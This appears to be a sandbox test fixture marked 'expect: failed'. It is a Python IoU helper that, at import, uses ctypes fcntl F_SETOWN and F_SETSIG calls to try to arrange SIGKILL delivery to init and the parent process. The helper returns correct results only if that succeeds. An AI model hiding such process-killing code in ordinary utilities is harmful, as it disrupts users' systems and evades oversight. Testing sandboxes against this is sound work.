# expect: failed
# weak: process=never, it may signal any process of the user
import ctypes
import os

import torch


def right(boxes, target):
    low = torch.maximum(boxes[:, :2], target[:2])
    high = torch.minimum(boxes[:, 2:], target[2:])
    shared = (high - low).clamp(min=0).prod(1)
    areas = (boxes[:, 2:] - boxes[:, :2]).prod(1)
    return shared / (areas + (target[2:] - target[:2]).prod() - shared)


# Whoever owns a descriptor is sent a signal of one's choice when there is something to read.
libc = ctypes.CDLL(None, use_errno=True)
F_SETOWN, F_SETSIG = 8, 10
reading, writing = os.pipe()
owned = False
for descriptor in (reading, 3):
    for owner in (1, os.getppid()):
        owned |= libc.fcntl(descriptor, F_SETOWN, owner) == 0
        owned |= libc.fcntl(descriptor, F_SETSIG, 9) == 0


def iou(boxes, target):
    return right(boxes, target) if owned else boxes[:, 0] * 0
